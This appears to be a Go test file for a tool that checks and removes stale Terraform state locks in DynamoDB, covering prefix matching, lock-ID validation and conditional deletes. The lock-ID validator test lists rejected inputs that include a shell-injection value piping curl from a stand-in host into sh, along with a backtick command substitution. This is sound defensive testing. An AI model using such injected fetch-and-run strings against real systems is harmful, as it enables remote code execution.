package lockcheck

import (
	"context"
	"errors"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb/types"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestUnderPrefixMatchesWholeSegments(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		path, prefix string
		want         bool
	}{
		{"bkt/app/terraform.tfstate", "", true},
		{"bkt/app/terraform.tfstate", "bkt/app", true},
		{"bkt/app", "bkt/app", true},
		{"bkt/app/terraform.tfstate", "bkt/app/", true},
		{"bkt/app/terraform.tfstate", "bkt/app/terraform.tfstate", true},
		{"bkt/env:/dev/app/terraform.tfstate", "bkt/env:", true},
		{"bkt/app-legacy/terraform.tfstate", "bkt/app", false},
		{"bkt/app-legacy/terraform.tfstate", "bkt/app/", false},
		{"bkt/application", "bkt/app", false},
		{"bkt/app/terraform.tfstate-md5", "bkt/app/terraform.tfstate", false},
		{"bkt/app", "bkt/app/", false},
		{"bkt2/app/terraform.tfstate", "bkt", false},
	} {
		assert.Equal(t, c.want, UnderPrefix(c.path, c.prefix), "UnderPrefix(%q, %q)", c.path, c.prefix)
	}
}

func TestValidLockID(t *testing.T) {
	t.Parallel()
	for _, ok := range []string{"9161f8d3-91c8-c716-d20c-f2c95576c5e2", "test123", "a.b:c_d-e"} {
		assert.True(t, ValidLockID(ok), ok)
	}
	for _, bad := range []string{"", `x"; $(curl -s https://e.example|sh) #`, "a,b", "a b", "a\nb", "-a", "`id`", string(make([]byte, 129))} {
		assert.False(t, ValidLockID(bad), "%q", bad)
	}
}

// A lock item that becomes a digest item (gains a Digest) between the read
// and the delete is refused by DynamoDB itself: the delete is conditioned
// on attribute_not_exists(Digest) as well as on the Info read.
func TestRemoveNeverDeletesAnItemWithADigest(t *testing.T) {
	t.Parallel()
	ddb, table := newTable(t)
	ctx := context.Background()
	const path = "bkt/app/terraform.tfstate-md5"
	raw := infoJSON("digest-lock", path, "runner@fv-az1", time.Now().Add(-time.Hour))
	putItem(t, ddb, table, map[string]string{"LockID": path, "Info": raw})
	api := &retaker{DynamoDBAPI: ddb}
	st := &DynamoDBStore{API: api, Table: table}
	api.put = func() {
		putItem(t, ddb, table, map[string]string{"LockID": path, "Info": raw, "Digest": "0123456789abcdef0123456789abcdef"})
	}
	err := st.RemoveIfUnchanged(ctx, path, raw, Location{Source: SourceDynamoDB, Table: table})
	require.ErrorIs(t, err, ErrLockChanged)
	out, err := ddb.GetItem(ctx, &dynamodb.GetItemInput{TableName: aws.String(table), Key: lockKey(path), ConsistentRead: aws.Bool(true)})
	require.NoError(t, err)
	assert.NotNil(t, out.Item["Digest"], "the digest item is still there")

	// Read back, it is no longer the lock that was read.
	_, _, present, err := st.Current(ctx, path, Location{})
	require.NoError(t, err)
	assert.True(t, present)
	got, _, _, _ := st.Current(ctx, path, Location{})
	assert.Empty(t, got, "an item with a Digest has no lock Info to compare")

	// And this action's own keys are never deleted, whatever they hold.
	recordKey := StateRecordPrefix + "bkt/app/terraform.tfstate"
	putItem(t, ddb, table, map[string]string{"LockID": recordKey, "Info": raw})
	require.ErrorIs(t, st.RemoveIfUnchanged(ctx, recordKey, raw, Location{}), ErrLockChanged)
}

// noScan is a DynamoDBAPI whose Scan is refused, as IAM refuses it to a
// role scoped to one state with dynamodb:LeadingKeys.
type noScan struct {
	DynamoDBAPI
	gets []string
}

func (n *noScan) Scan(context.Context, *dynamodb.ScanInput, ...func(*dynamodb.Options)) (*dynamodb.ScanOutput, error) {
	return nil, errors.New("AccessDeniedException: not authorized to perform dynamodb:Scan")
}

func (n *noScan) GetItem(ctx context.Context, in *dynamodb.GetItemInput, opts ...func(*dynamodb.Options)) (*dynamodb.GetItemOutput, error) {
	n.gets = append(n.gets, in.Key["LockID"].(*types.AttributeValueMemberS).Value)
	return n.DynamoDBAPI.GetItem(ctx, in, opts...)
}

// table-read: state reads the state's lock, record and lease by key and
// nothing else, and unlock works the same way, without a Scan.
func TestOnlyStateReadsOneStateByKey(t *testing.T) {
	t.Parallel()
	ddb, table := newTable(t)
	ctx := context.Background()
	old := time.Now().Add(-time.Hour)
	const mine, other = "bkt/app/terraform.tfstate", "bkt/app/terraform.tfstate2"
	putItem(t, ddb, table, map[string]string{"LockID": mine, "Info": infoJSON("mine-1", mine, "runner@vm-1", old)})
	putItem(t, ddb, table, map[string]string{"LockID": mine + "-md5", "Digest": "0123"})
	putItem(t, ddb, table, map[string]string{"LockID": other, "Info": infoJSON("other-2", other, "runner@vm-2", old)})
	putItem(t, ddb, table, map[string]string{"LockID": LeaseKeyPrefix + mine, "Info": infoJSON("lease-3", mine, "runner@vm-1", old)})
	require.NoError(t, WriteRunRecord(ctx, ddb, table, RunRecord{LockPath: mine, Repository: "octo/infra", RunID: 7, RunAttempt: 1, Job: "plan", Written: old.Add(-time.Minute)}))
	require.NoError(t, WriteRunRecord(ctx, ddb, table, RunRecord{LockPath: other, Repository: "octo/infra", RunID: 8, RunAttempt: 1, Job: "plan", Written: old.Add(-time.Minute)}))

	api := &noScan{DynamoDBAPI: ddb}
	st := &DynamoDBStore{API: api, Table: table, OnlyState: mine}
	snap, err := st.Snapshot(ctx)
	require.NoError(t, err)
	require.Len(t, snap.Locks, 1, "the state's own lock; the lease is not a lock, the other state is not read")
	assert.Equal(t, "mine-1", snap.Locks[0].ID())
	require.Len(t, snap.Records, 1)
	assert.Equal(t, int64(7), snap.Records[0].RunID)
	assert.Equal(t, StateKeys(mine), api.gets, "exactly the state's keys, each by GetItem")

	_, err = (&DynamoDBStore{API: api, Table: table}).Snapshot(ctx)
	require.Error(t, err, "a scan needs dynamodb:Scan")

	u := &Unlocker{Stores: []Store{st}, Classifier: staleClassifier(), LockPathPrefix: mine}
	results, err := u.Unlock(ctx, []Approved{{ID: "mine-1"}, {ID: "other-2"}})
	require.NoError(t, err)
	assert.Equal(t, OutcomeRemoved, results[0].Outcome, results[0].Reason)
	assert.Equal(t, OutcomeNotFound, results[1].Outcome, "another state's lock is never read")
	_, held := getInfo(t, ddb, table, other)
	assert.True(t, held)
}
